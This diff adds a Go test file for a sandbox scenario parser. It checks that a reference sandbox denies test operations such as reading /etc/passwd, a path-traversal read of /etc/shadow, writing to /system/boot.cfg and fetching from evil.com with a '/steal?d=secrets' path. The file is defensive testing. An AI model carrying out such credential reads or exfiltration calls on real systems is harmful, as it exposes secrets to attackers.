@@ -1,0 +1,152 @@
+package scenario
+
+import (
+	"net/netip"
+	"os"
+	"reflect"
+	"testing"
+
+	"github.com/sbxfuzz/sbxfuzz/core"
+)
+
+func readTestdata(t *testing.T, name string) []byte {
+	t.Helper()
+	b, err := os.ReadFile("testdata/" + name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+func mustParse(t *testing.T, name string, src []byte) *Scenario {
+	t.Helper()
+	s, err := Parse(name, src)
+	if err != nil {
+		t.Fatalf("Parse: %v", err)
+	}
+	return s
+}
+
+func TestParseWorkedTrace(t *testing.T) {
+	got := mustParse(t, "worked_trace.sbx", readTestdata(t, "worked_trace.sbx"))
+	want := &Scenario{
+		Grant: core.GrantSpec{
+			FSRead:   []string{"/work/"},
+			FSWrite:  []string{"/work/out/"},
+			NetHosts: []string{"api.internal"},
+			Tools:    []string{"summarize"},
+			Budgets:  core.Budgets{MaxOps: 7, MaxWall: 1000000, MaxOutputBytes: 1048576},
+		},
+		World: core.WorldSpec{
+			Files:  []core.File{{Path: "/work/data.txt", Data: "hello"}},
+			Routes: []core.Route{{Host: "api.internal", Path: "/status", Body: "ok"}},
+			Clock:  core.TickClock{Start: 0, Step: 1},
+		},
+		Steps: []Step{
+			{Op: op("fs_read", "/work/data.txt"), Expect: &Expect{core.OK, "hello", true}, Line: 9},
+			{Op: op("fs_read", "/etc/passwd"), Expect: &Expect{Kind: core.FSReadDenied}, Line: 10},
+			{Op: op("fs_read", "/work/../etc/shadow"), Expect: &Expect{Kind: core.PathTraversal}, Line: 11},
+			{Op: op("fs_write", "/work/out/report.txt", "done"), Expect: &Expect{Kind: core.OK}, Line: 12},
+			{Op: op("fs_write", "/system/boot.cfg", "pwned"), Expect: &Expect{Kind: core.FSWriteDenied}, Line: 13},
+			{Op: op("net_fetch", "api.internal", "/status"), Expect: &Expect{core.OK, "ok", true}, Line: 14},
+			{Op: op("net_fetch", "evil.com", "/steal?d=secrets"), Expect: &Expect{Kind: core.EgressDenied}, Line: 15},
+			{Op: op("fs_read", "/work/data.txt"), Expect: &Expect{Kind: core.MaxOps}, Line: 16},
+		},
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("Parse(worked trace):\n got %#v\nwant %#v", got, want)
+	}
+	if !got.Equal(want) {
+		t.Errorf("Equal is false on a DeepEqual scenario")
+	}
+}
+
+// TestWorkedTraceRuns checks Build by running the worked trace on the
+// reference sandbox: every expectation of SPEC §10 must hold.
+func TestWorkedTraceRuns(t *testing.T) {
+	s := mustParse(t, "worked_trace.sbx", readTestdata(t, "worked_trace.sbx"))
+	g, w, err := s.Build()
+	if err != nil {
+		t.Fatal(err)
+	}
+	sb := core.NewReference(g, w)
+	for _, st := range s.Steps {
+		r := sb.Run(st.Op)
+		e := st.Expect
+		if r.Kind != e.Kind || e.HasData && r.Data != e.Data {
+			t.Errorf("line %d: %v gave %v %q, want %v %q", st.Line, st.Op, r.Kind, r.Data, e.Kind, e.Data)
+		}
+	}
+}
+
+func TestNewDefaults(t *testing.T) {
+	s := New()
+	want := core.Budgets{MaxOps: 1000, MaxWall: 1000000, MaxOutputBytes: 1048576}
+	if s.Grant.Budgets != want {
+		t.Errorf("New budgets = %+v, want %+v", s.Grant.Budgets, want)
+	}
+	if s.World.Clock != (core.TickClock{Start: 0, Step: 1}) {
+		t.Errorf("New clock = %+v, want {0 1}", s.World.Clock)
+	}
+	if !s.Equal(mustParse(t, "empty.sbx", nil)) {
+		t.Errorf("Parse of empty input differs from New()")
+	}
+	if len(s.Format()) != 0 {
+		t.Errorf("New().Format() = %q, want empty", s.Format())
+	}
+}
+
+func TestBuildFreshWorlds(t *testing.T) {
+	s := New()
+	s.World.Files = []core.File{{Path: "/a", Data: "1"}}
+	s.World.DNS = []core.DNSRecord{{Host: "h", Addrs: []netip.Addr{netip.MustParseAddr("10.0.0.1"), netip.MustParseAddr("203.0.113.9")}}}
+	_, w1, err := s.Build()
+	if err != nil {
+		t.Fatal(err)
+	}
+	w1.Write("/a", "2")
+	w1.Resolve("h")
+	_, w2, _ := s.Build()
+	if d, _ := w2.Lookup("/a"); d != "1" {
+		t.Errorf("second world sees /a = %q, want the scenario's 1", d)
+	}
+	if a := w2.PeekResolve("h"); a != netip.MustParseAddr("10.0.0.1") {
+		t.Errorf("second world's DNS starts at %v, want 10.0.0.1", a)
+	}
+	s.Grant.FSRead = []string{"relative"}
+	if _, _, err := s.Build(); err == nil {
+		t.Errorf("Build accepted an invalid grant")
+	}
+}
+
+func TestEqual(t *testing.T) {
+	base := func() *Scenario {
+		s := New()
+		s.Steps = []Step{{Op: op("fs_read", "/a"), Expect: &Expect{Kind: core.OK}, Line: 3}}
+		return s
+	}
+	for _, tc := range []struct {
+		reason string
+		change func(*Scenario)
+		equal  bool
+	}{
+		{"Line is ignored", func(s *Scenario) { s.Steps[0].Line = 9 }, true},
+		{"nil and empty lists are alike", func(s *Scenario) { s.Comment = []string{}; s.Steps[0].Comment = []string{} }, true},
+		{"Data is ignored without HasData", func(s *Scenario) { s.Steps[0].Expect.Data = "x" }, true},
+		{"HasData counts", func(s *Scenario) { s.Steps[0].Expect.HasData = true }, false},
+		{"a missing expectation counts", func(s *Scenario) { s.Steps[0].Expect = nil }, false},
+		{"comments count", func(s *Scenario) { s.Comment = []string{"x"} }, false},
+		{"clock counts", func(s *Scenario) { s.World.Clock.Step = 2 }, false},
+		{"dns addresses count", func(s *Scenario) {
+			s.World.DNS = []core.DNSRecord{{Host: "h", Addrs: []netip.Addr{netip.IPv6Loopback()}}}
+		}, false},
+	} {
+		s := base()
+		tc.change(s)
+		if got := base().Equal(s); got != tc.equal {
+			t.Errorf("%s: Equal = %v, want %v", tc.reason, got, tc.equal)
+		}
+	}
+}
+
+func op(kind string, args ...string) core.Op { return core.Op{Kind: kind, Args: args} }
